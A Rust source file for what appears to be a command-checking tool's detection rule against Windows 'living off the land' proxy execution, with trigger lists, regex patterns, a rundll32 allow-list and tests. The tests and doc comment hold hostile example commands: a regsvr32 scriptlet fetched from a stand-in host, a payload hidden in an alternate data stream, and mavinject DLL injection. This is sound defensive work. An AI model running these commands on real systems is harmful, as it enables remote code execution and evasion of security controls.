//! **What.** A program of the system runs somebody else's code in its own name.
//!
//! **Why.** What is allowed by its signature alone hides what it loads. Support work has no need of such a way round.
//!
//! **Bad.** `rundll32 url.dll,FileProtocolHandler x.hta`, `regsvr32 /s /u /i:http://… scrobj.dll`
//!
//! **Better.** Run the program itself, signed, by its own name.
//!
//! **Source.** MITRE ATT&CK T1218, T1216, T1220, T1127, T1202, T1564.004; the vendors' own pages of these programs.

use std::ops::Range;

use super::{Rule, Severity};
use crate::command::{Command, Script};
use crate::knowledge::Style;

pub(super) static RULE: Rule = Rule {
    name: "exec.lolbin-proxy",
    severity: Severity::High,
    attack: &["T1218", "T1216", "T1220", "T1127", "T1202", "T1564.004", "T1055"],
    attack_before: &[],
    analyzer: &[],
    reason: "a program of the system is made to run other code in its name",
    better: "run the program itself, by its own name, from where it is installed",
    calls: &[
        (
            Style::Windows,
            "regsvr32: ~scrobj ; ~http ; ~.sct ; ~\\\\temp ; ~%temp% ; ~%tmp% ; ~pathto ; ^\\\\\\\\ ; ~\\\\users\\\\public ; ~appdata ; ~\\\\downloads ; ~.jpg ; ~.png ; ~.txt",
        ),
        (Style::Windows, "installutil: ~/u ; ~/logfile ; ~.dll ; ~.exe"),
        (Style::Windows, "regasm, regsvcs: /u ; ~temp ; ~pathto ; ~users"),
        (Style::Windows, "cmstp: ~.inf ; /s ; /ns ; /au"),
        (Style::Windows, "odbcconf: ~regsvr ; /f ; /a"),
        (
            Style::Windows,
            "msxsl, mavinject, mavinject32, mavinject64, ie4uinit, infdefaultinstall, gpscript, provlaunch, customshellhost, wlrmdr, register-cimprovider, microsoft.workflow.compiler, presentationhost, syncappvpublishingserver, xwizard, verclsid, extexport, ieexec, runscripthelper, scriptrunner, rasautou, rcsi, csi, fsi, fsianycpu, dnx, appvlp, tttracer, te, wfc, certoc, cmdl32, devicecredentialdeployment, workfolders, runexehelper, protocolhandler, atbroker, diantz, gfxdownloadwrapper, vsjitdebugger, settingsynchost, offlinescannershell, dfshim, squirrel, sqltoolsps, bginfo, cdb, dxcap, mftrace, vstest, unregmp2, addinutil, visualuiaverifynative, aspnet_compiler, stordiag, iscsicpl, ilasm, jsc, pubprn, cl_invocation, cl_mutexverifiers, cl_loadassembly, utilityfunctions, manage-bde.wsf, computerdefaults, desktopimgdownldr, ttdinject, launch-vsdevshell, defaultpack, imewdbld: *",
        ),
        (Style::Windows, "pcalua: -a ; ~.exe ; ~.dll ; ~.cpl"),
        (Style::Windows, "wuauclt: /updatedeploymentprovider ; /runhandlercomserver"),
        (Style::Windows, "msbuild: ~.csproj ; ~.xml ; ~.proj ; ~.vbproj"),
        (Style::Windows, "forfiles: ~.exe ~/c !~@ ; ~calc"),
        (Style::Windows, "diskshadow: /s ; -s ; -exec"),
        (Style::Windows, "dnscmd: /config /serverlevelplugindll ; ~serverlevelplugindll"),
        (Style::Windows, "hh: ~http ; ~.chm ; ~.exe ; ~ms-its"),
        (Style::Windows, "control: ~.dll ; ~pathto ; ~temp ; ~.cpl ~\\\\users"),
        (Style::Windows, "msiexec: ~http ; /y ; /z ; ~.dll"),
        (Style::Windows, "wmic: ~/format:http ; ~.xsl ; ~format: ~.xsl"),
        (
            Style::Windows,
            "cscript, wscript: ~pubprn ; ~script:http ; ~winrm.vbs ; ~slmgr.vbs ~http ; ~syncappv ; ~manage-bde.wsf ; ~//e: ; ~.txt ; ~.jpg ; ~prnport.vbs ~script",
        ),
        (Style::Windows, "msdt: ~ms-msdt ; ~browseforfile ; ~/af ; ~-af"),
        (Style::Windows, "runonce: /alternateshellstartup"),
        (
            Style::Windows,
            "msedge, chrome, teams, code, slack, msedgewebview2: ~--gpu-launcher ; ~--utility-cmd-prefix ; ~--renderer-cmd-prefix ; ~--load-extension ; ~--no-sandbox ; ~--disable-gpu-sandbox ; ~--remote-debugging-port",
        ),
        (Style::Windows, "explorer: ~/root, ; ~.exe"),
        (Style::Windows, "esentutl: /vss ; ~/d: /y ~:\\\\ads ; /y ~.exe:"),
        (Style::Windows, "bash, wsl: -e ~calc ; ~calc.exe"),
        (Style::Windows, "replace: ~\\\\system32 ; ^\\\\\\\\"),
        (Style::Windows, "update: --processstart ; --update"),
        (Style::Windows, "tracker: /d ; /c"),
        (Style::Windows, "winrm: ~invoke ~win32_process ; invoke ~create"),
        (Style::Windows, "sqldumper, dump64: *"),
        (Style::Windows, "schtasks: ~/tr ~regsvr32 ; ~/tr ~mshta ; ~/tr ~rundll32 ; ~/tr ~iex ; ~/tr ~frombase64"),
        (Style::Windows, "makecab, expand, extrac32: ~.txt: ; ~.log: ; ^\\\\\\\\webdav"),
        (Style::Cmdlet, "set-content, add-content, out-file: -Stream"),
        (Style::Cmdlet, "invoke-item, start-process: ~.hta ; ~.scr ; ~.sct"),
    ],
    words: &[
        // A stream behind a file's name: `file.txt:other.exe`.
        r#"\.(txt|log|exe|dll|ini|cab|reg|bat|cmd|docx?|xlsx?|png|jpe?g|dat|ps1|vbs|tmp|bin):[a-z_][\w.]*\b"#,
        r"(>|\bmd\b|\bmkdir\b|\becho\b)[^\r\n]*::\$index_allocation",
        r"syncappvpublishingserver|pubprn(\.vbs)?\b[^\r\n]*script:|cl_(mutexverifiers|invocation|loadassembly)\.ps1|utilityfunctions\.ps1|pester\.bat|winrm\.vbs",
        r"\bconhost(\.exe)?\s+\S*[^\r\n]*\.exe|\bscriptrunner(\.exe)?\b|\bpcalua(\.exe)?\s+-a",
        r"rundll32(\.exe)?\s+[\x22']?(javascript|vbscript):",
        r"\bscrobj\.dll\b|getobject\(\s*[\x22']script:|runhtmlapplication",
        r"\bms-(word|excel|powerpoint):\w+\|u\|http",
        r"(virtualalloc(ex)?|createremotethread|writeprocessmemory|queueuserapc|ntmapviewofsection|createthread|getdelegateforfunctionpointer)\b",
        r"dllimport\s*\(?[\x22']?(kernel32|ntdll)",
        r"\b(copy|xcopy|copy-item|cp)\b[^\r\n]*(system32|syswow64|%windir%|%systemroot%|\$env:windir|\$env:systemroot)\S*\.exe[\x22']?\s+\S",
        r"\bappdomainmanager|cor_profiler|cor_enable_profiling|complus_(etwenabled|version)",
        r"\bld_preload=|dyld_insert_libraries=|/etc/ld\.so\.preload",
        r"\bgdb\b[^\n]*-ex\s+[\x22']?(call|shell|print)|ptrace_attach|/proc/\w+/mem\b",
        r"\bload-assembly|\[activator\]::createinstance|mmc20\.application|shellwindows|9ba05972-f6a8|document\.application\.shellexecute",
        r"wmic[^\r\n]*/format:\S*(http|\.xsl)",
        r"\bhhctrl|sharpshooter|dotnettojscript",
    ],
    about_change: false,
    check: Some(dynamic_libraries),
};

/// What `rundll32` is asked of honestly, by library. Source: the libraries' pages and the Windows commands reference.
const HONEST: &[&str] = &[
    "printui",
    "user32",
    "powrprof",
    "keymgr",
    "inetcpl.cpl",
    "sysdm.cpl",
    "iernonce",
    "ndfapi",
    "dsquery",
    "netplwiz",
    "tapi32",
    "fthsvc",
    "appwiz.cpl",
    "dfdts",
    "winethc",
    "wer",
    "shimgvw",
    "newdev.dll_",
    "aclui",
    "themecpl",
    "mmsys.cpl",
    "kernel32",
    "dsuiext",
    "cryptui",
    "cryptext",
    "edgeiso",
    "amdpowersvc",
    "fveapi",
    "advapi32",
    "startupscan",
    "generaltel",
    "sdengin2",
    "werconcpl",
];

/// `rundll32` with anything but a library and an entry of it that support work asks for.
fn dynamic_libraries(script: &Script) -> Vec<Range<usize>> {
    script
        .commands
        .iter()
        .filter(|command| command.name == "rundll32" && !is_honest(command))
        .map(|command| command.span.clone())
        .collect()
}

fn is_honest(command: &Command) -> bool {
    let line = command.line();
    let asked = line.trim_start_matches("rundll32").trim();
    let library = asked.split([',', ' ']).next().unwrap_or_default();
    let base = library.rsplit(['\\', '/']).next().unwrap_or(library).trim_end_matches(".dll");
    let system = !library.contains('\\')
        || library.contains("system32")
        || library.contains("%windir%")
        || library.contains("%systemroot%");
    let settings = base == "shell32"
        && (asked.contains("options_rundll")
            || asked.contains("control_rundll") && (asked.contains(".cpl") || asked.ends_with("control_rundll"))
            || asked.contains("shhelpshortcuts"));
    asked.is_empty()
        || system && !asked.contains("temp") && !asked.contains("pathto") && (settings || HONEST.contains(&base))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::cases::holds;

    #[test]
    fn code_in_a_borrowed_name_is_found() {
        holds(
            &RULE,
            &[
                ("cmd", "rundll32.exe url.dll,FileProtocolHandler calc.exe"),
                ("cmd", "regsvr32 /s /u /i:http://example.com/a.sct scrobj.dll"),
                ("cmd", "type c:\\a.exe > c:\\b.log:a.exe"),
                ("cmd", "mavinject.exe 1000 /INJECTRUNNING c:\\a.dll"),
                ("powershell", "Set-Content -Path a.txt -Stream b -Value c"),
            ],
            &[
                ("cmd", "rundll32 printui.dll,PrintUIEntry /s /t2"),
                ("cmd", "regsvr32 Softpub.dll"),
                ("cmd", "netstat -ano > out.txt"),
                ("powershell", "Get-Content C:\\a.txt -Stream Zone.Identifier"),
                ("powershell", "Test-NetConnection server.log.example.com:443"),
            ],
        );
    }
}
